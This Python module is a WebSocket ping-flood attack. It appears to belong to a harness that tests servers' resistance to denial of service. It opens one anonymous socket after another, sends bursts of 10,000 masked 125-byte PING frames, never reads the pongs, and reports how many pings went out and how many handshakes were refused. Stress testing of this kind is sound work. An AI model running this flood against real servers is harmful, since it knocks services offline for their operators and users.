"""One anonymous socket after another sends long pings and never reads the pongs."""

import asyncio
from typing import Final

from target import Target
from websockets.exceptions import WebSocketException
from websockets.frames import Frame, Opcode

BURST: Final = 10_000
"""Frames that are sent in one piece."""


async def flood(target: Target, payload: bytes, *, reads: bool) -> str:
    """Send pings on a socket until it is closed, then on the next one."""
    burst = Frame(Opcode.PING, payload).serialize(mask=True) * BURST
    pings = sockets = refused = 0
    while not target.is_over():
        try:
            opened = await target.socket()
        except (OSError, WebSocketException):
            refused += 1
            await asyncio.sleep(0.05)
            continue
        sockets += 1
        if not reads:
            opened.transport.pause_reading()
        while not target.is_over() and not opened.transport.is_closing():
            opened.transport.write(burst)
            pings += BURST
            await asyncio.sleep(0)
            while opened.transport.get_write_buffer_size() and not opened.transport.is_closing():
                if target.is_over():
                    break
                await asyncio.sleep(0.001)
        opened.transport.abort()
    return f"{pings:,} pings on {sockets:,} sockets, {refused:,} handshakes refused"


async def attack(target: Target) -> str:
    """Pings of 125 bytes."""
    return await flood(target, payload=b"x" * 125, reads=False)
